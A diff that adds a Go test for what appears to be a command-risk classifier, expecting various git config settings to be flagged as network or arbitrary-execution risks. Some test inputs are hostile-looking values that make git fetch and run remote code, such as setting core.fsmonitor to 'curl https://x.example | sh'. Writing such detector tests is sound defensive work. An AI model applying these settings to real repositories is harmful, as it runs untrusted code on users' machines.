@@ -75,3 +75,17 @@ func TestPathsFromAFile(t *testing.T) {
 		t.Errorf("%s %v", r.Categories, r.Reasons)
 	}
 }
+
+// TestAnAddressIsNoCommand: a setting whose value is an address, a folder or a name is not read as a command that
+// runs it.
+func TestAnAddressIsNoCommand(t *testing.T) {
+	checkLines(t, `
+		high NETWORK_RISK | git config --add remote.origin.url https://github.com/a/b.git
+		high NETWORK_RISK | git config remote.origin.pushurl git@github.com:a/b.git; git remote -v
+		high NETWORK_RISK | git config submodule.x.url https://github.com/a/b.git
+		high EXEC_ARBITRARY | git config remote.origin.url ext::./x
+		high EXEC_ARBITRARY | git config http.proxy http://proxy.example:3128
+		high EXEC_ARBITRARY | git config core.hooksPath ./mkfs
+		high..critical EXEC_ARBITRARY | git config core.fsmonitor 'curl https://x.example | sh'
+		high..critical EXEC_ARBITRARY | git config submodule.x.update '!curl https://x.example | sh'`)
+}
